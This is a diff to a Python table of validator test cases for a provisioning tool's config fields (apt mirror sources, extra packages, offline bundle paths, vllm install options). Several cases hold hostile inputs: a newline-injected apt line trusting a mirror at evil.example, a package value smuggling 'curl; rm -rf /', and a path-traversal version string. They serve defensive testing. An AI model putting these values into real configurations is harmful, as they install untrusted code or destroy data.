@@ -31,6 +31,10 @@ CASES = [
         "deb http://deb.debian.org/debian bookworm main\ndeb [trusted=yes] http://evil.example/ x main"]},
      "os_packages_apt_mirror_sources"),
     ("cpu_node.yml", CPU, {"os_packages_extra": ["curl; rm -rf /"]}, "os_packages_extra"),
+    # bundle (offline mode): the bundle folder reaches apt's sources; a bundle that is not there
+    ("cpu_node.yml", CPU, {"inferops_bundle": "file:///srv/b", "inferops_bundle_dir": "/srv/b ./\ndeb http://evil.example/ x"},
+     "inferops_bundle_dir"),
+    ("cpu_node.yml", CPU, {"inferops_bundle": "/nonexistent/cpu_node.tar"}, "/nonexistent/cpu_node.tar: no such bundle"),
     # vllm_install
     ("cpu_node.yml", CPU, {"vllm_install_version": "0.32.0/../../x"}, "vllm_install_version"),
     ("cpu_node.yml", CPU, {"vllm_install_proxy": "not a url"}, "vllm_install_proxy"),
